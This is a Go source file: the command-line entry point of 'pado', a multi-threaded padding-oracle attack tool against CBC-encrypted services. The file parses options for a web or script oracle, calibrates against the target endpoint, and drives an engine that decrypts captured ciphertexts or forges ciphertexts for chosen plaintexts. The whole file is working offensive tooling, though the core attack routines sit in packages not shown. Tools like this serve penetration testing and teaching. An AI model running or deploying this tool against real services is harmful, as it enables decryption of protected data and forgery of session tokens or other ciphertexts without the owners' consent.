// Command pado mounts a padding-oracle attack against a CBC service: it
// decrypts captured ciphertexts, or forges ciphertexts for chosen plaintexts,
// by questioning an HTTP endpoint or a script about padding validity.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"os/signal"
	"strings"
	"time"

	"github.com/alexflint/go-arg"
	"github.com/fatih/color"
	log "github.com/sirupsen/logrus"

	"github.com/nzkv/pado/attack"
	"github.com/nzkv/pado/blocks"
	"github.com/nzkv/pado/cache"
	"github.com/nzkv/pado/oracle"
	"github.com/nzkv/pado/pkcs7"
)

const version = "1.0.0"

type webCmd struct {
	URL          string   `arg:"positional,required" help:"oracle URL; place the keyword where the ciphertext goes" placeholder:"URL"`
	PostData     string   `arg:"--post-data,-d" help:"POST body; presence switches the request method to POST"`
	Headers      []string `arg:"--header,-H,separate" help:"header to send with each request (repeatable)"`
	Keyword      string   `arg:"--keyword,-K" help:"placeholder marking the ciphertext location" default:"CTEXT"`
	UserAgent    string   `arg:"--user-agent,-A" help:"User-Agent to send" default:"pado/1.0"`
	Proxy        string   `arg:"--proxy,-x" help:"proxy URL" placeholder:"URL"`
	ProxyCreds   string   `arg:"--proxy-credentials" help:"proxy credentials as user:password"`
	Timeout      int      `arg:"--timeout,-T" help:"request timeout in seconds" default:"10"`
	Redirect     bool     `arg:"--redirect,-r" help:"follow redirects"`
	Insecure     bool     `arg:"--insecure,-k" help:"skip TLS certificate validation"`
	ConsiderBody bool     `arg:"--consider-body,-c" help:"include content length and body hash in calibration"`
}

type scriptCmd struct {
	Path string `arg:"positional,required" help:"oracle executable; gets the encoded ciphertext as argv[1], exit 0 means correct padding" placeholder:"PATH"`
}

type arguments struct {
	Web    *webCmd    `arg:"subcommand:web" help:"question a web-based oracle"`
	Script *scriptCmd `arg:"subcommand:script" help:"question a script-based oracle"`

	Decrypt     string `arg:"--decrypt,-D,required" help:"ciphertext to decrypt, as captured from the target" placeholder:"CTEXT"`
	Encrypt     string `arg:"--encrypt,-E" help:"plaintext to encrypt instead; the ciphertext supplies the anchor block" placeholder:"PTEXT"`
	BlockSize   int    `arg:"--block-size,-B,required" help:"cipher block size (8 or 16)"`
	NoIV        bool   `arg:"--no-iv,-n" help:"ciphertext does not include an IV"`
	Encoding    string `arg:"--encoding,-e" help:"ciphertext encoding (auto, hex, base64, base64url)" default:"auto"`
	NoURLEncode bool   `arg:"--no-url-encode" help:"do not URL-encode the ciphertext on the wire"`
	Threads     int    `arg:"--threads,-t" help:"worker thread count" default:"64"`
	Delay       int    `arg:"--delay" help:"per-thread delay between requests in milliseconds" placeholder:"MS"`
	NoCache     bool   `arg:"--no-cache" help:"disable the block cache"`
	Output      string `arg:"--output,-o" help:"also write log output to this file" placeholder:"FILE"`
	Verbosity   int    `arg:"-v" help:"verbosity (0 = info; 1 = debug; 2 = trace)" default:"0"`
}

func (arguments) Description() string {
	return "pado - a multi-threaded padding-oracle attacker for CBC services"
}

func (arguments) Version() string {
	return "pado " + version
}

func main() {
	var args arguments
	parser := arg.MustParse(&args)
	if args.Web == nil && args.Script == nil {
		parser.Fail("specify an oracle: the web or script subcommand")
	}
	if err := run(args); err != nil {
		log.Error(err)
		os.Exit(1)
	}
}

func run(args arguments) error {
	if err := setupLogging(args.Verbosity, args.Output); err != nil {
		return err
	}

	encoding, raw, err := decodeCiphertext(args)
	if err != nil {
		return err
	}
	log.Infof("using encoding: %s (URL encoding: %t)", encoding, !args.NoURLEncode)

	ciphertext, err := blocks.NewCiphertext(raw, args.BlockSize, !args.NoIV, encoding)
	if err != nil {
		return err
	}

	delay := time.Duration(args.Delay) * time.Millisecond
	var o oracle.Oracle
	var web *oracle.Web
	switch {
	case args.Web != nil:
		web, err = oracle.NewWeb(oracle.WebConfig{
			URL:          args.Web.URL,
			PostData:     args.Web.PostData,
			Headers:      args.Web.Headers,
			Keyword:      args.Web.Keyword,
			UserAgent:    args.Web.UserAgent,
			Proxy:        args.Web.Proxy,
			ProxyCreds:   args.Web.ProxyCreds,
			Timeout:      time.Duration(args.Web.Timeout) * time.Second,
			Delay:        delay,
			Redirect:     args.Web.Redirect,
			Insecure:     args.Web.Insecure,
			ConsiderBody: args.Web.ConsiderBody,
			NoURLEncode:  args.NoURLEncode,
			Encoding:     encoding,
		})
		if err != nil {
			return err
		}
		o = web
	case args.Script != nil:
		o, err = oracle.NewScript(args.Script.Path, encoding, delay)
		if err != nil {
			return err
		}
	}

	blockCache, err := openCache(args, o)
	if err != nil {
		return err
	}
	defer blockCache.Close()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	if web != nil {
		log.Info("calibrating the web oracle")
		if err := oracle.Calibrate(ctx, web, ciphertext, args.Threads); err != nil {
			return err
		}
	}

	events := make(chan attack.Event, 1024)
	rendererDone := make(chan struct{})
	go renderProgress(events, rendererDone)

	engine := attack.New(attack.Config{
		Oracle:  o,
		Cache:   blockCache,
		Workers: args.Threads,
		Events:  events,
	})

	var runErr error
	if args.Encrypt != "" {
		runErr = runEncrypt(ctx, engine, ciphertext, args)
	} else {
		runErr = runDecrypt(ctx, engine, ciphertext)
	}

	close(events)
	<-rendererDone
	return runErr
}

func runDecrypt(ctx context.Context, engine *attack.Engine, ciphertext *blocks.Ciphertext) error {
	started := time.Now()
	result, err := engine.Decrypt(ctx, ciphertext)
	if err != nil && !errors.Is(err, attack.ErrCancelled) {
		return err
	}

	plain := result.Plaintext()
	if len(plain) > 0 {
		fmt.Printf("%s %q\n", color.GreenString("plaintext:"), plain)
		if unpadded, unpadErr := pkcs7.Unpad(plain, ciphertext.BlockSize()); unpadErr == nil {
			fmt.Printf("%s %s\n", color.GreenString("unpadded: "), unpadded)
		}
	}
	for _, block := range result.Blocks {
		if !block.Recovered {
			fmt.Printf("%s block %d is unrecoverable without its predecessor\n",
				color.YellowString("note:"), block.Index)
		}
	}

	if err != nil {
		return err
	}
	log.Infof("decryption finished in %s", time.Since(started).Round(time.Millisecond))
	return nil
}

func runEncrypt(ctx context.Context, engine *attack.Engine, ciphertext *blocks.Ciphertext, args arguments) error {
	started := time.Now()
	forgery, err := engine.Encrypt(ctx, ciphertext, []byte(args.Encrypt))
	if err != nil {
		return err
	}

	encoded := ciphertext.Encoding().EncodeToString(forgery)
	fmt.Printf("%s %s\n", color.GreenString("forged ciphertext:"), encoded)
	if !args.NoURLEncode {
		fmt.Printf("%s %s\n", color.GreenString("URL encoded:      "), url.QueryEscape(encoded))
	}
	log.Infof("encryption finished in %s", time.Since(started).Round(time.Millisecond))
	return nil
}

// renderProgress is the plain renderer: block transitions at info, ticks at
// debug. The engine stays renderer-agnostic and never blocks on a slow sink.
func renderProgress(events <-chan attack.Event, done chan<- struct{}) {
	defer close(done)
	for event := range events {
		switch event.Kind {
		case attack.EventTick:
			log.Debugf("progress: %d/%d bytes", event.BytesDone, event.BytesTotal)
		case attack.EventBlock:
			switch event.State {
			case attack.BlockRunning:
				log.Debugf("block %d: running", event.Block)
			case attack.BlockSolved:
				log.Infof("block %d: solved (%d/%d bytes recovered)",
					event.Block, event.BytesDone, event.BytesTotal)
				log.Debugf("block %d: intermediate state %x", event.Block, event.Intermediate)
			case attack.BlockFailed:
				log.Errorf("block %d: %v", event.Block, event.Err)
			case attack.BlockCancelled:
				log.Warnf("block %d: cancelled", event.Block)
			}
		}
	}
}

func setupLogging(verbosity int, output string) error {
	switch {
	case verbosity <= 0:
		log.SetLevel(log.InfoLevel)
	case verbosity == 1:
		log.SetLevel(log.DebugLevel)
	default:
		log.SetLevel(log.TraceLevel)
	}

	if output == "" {
		return nil
	}
	file, err := os.OpenFile(output, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return fmt.Errorf("opening log file: %w", err)
	}
	log.SetOutput(io.MultiWriter(os.Stderr, file))
	return nil
}

func decodeCiphertext(args arguments) (blocks.Encoding, []byte, error) {
	text := strings.TrimSpace(args.Decrypt)
	if !args.NoURLEncode {
		// PathUnescape, not QueryUnescape: a '+' in base64 must survive
		if unescaped, err := url.PathUnescape(text); err == nil {
			text = unescaped
		}
	}

	if strings.EqualFold(args.Encoding, "auto") {
		return blocks.DetectEncoding(text)
	}
	encoding, err := blocks.ParseEncoding(args.Encoding)
	if err != nil {
		return 0, nil, err
	}
	raw, err := encoding.DecodeString(text)
	if err != nil {
		return 0, nil, fmt.Errorf("decoding ciphertext as %s: %w", encoding, err)
	}
	return encoding, raw, nil
}

func openCache(args arguments, o oracle.Oracle) (*cache.Cache, error) {
	if args.NoCache {
		return cache.Disabled(), nil
	}
	path, err := cache.DefaultPath()
	if err != nil {
		log.Warnf("cache disabled: %v", err)
		return cache.Disabled(), nil
	}
	identity := cache.Identity(o.Location(), args.BlockSize)
	c, err := cache.Open(path, identity)
	if err != nil {
		return nil, err
	}
	log.Debugf("cache open at %s (oracle identity %s)", path, identity)
	return c, nil
}
